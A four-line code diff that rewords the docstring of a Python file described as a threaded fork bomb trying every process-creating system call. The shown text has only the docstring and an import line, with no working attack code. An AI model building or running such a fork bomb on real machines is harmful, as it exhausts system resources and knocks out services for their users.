@@ -1,4 +1,4 @@
-"""Threads in a fork bomb: each of them tries to make processes, by every call that there is for it."""
+"""A fork bomb with threads, each of which tries every system call that creates processes."""
 
 import ctypes, os, platform, threading
 
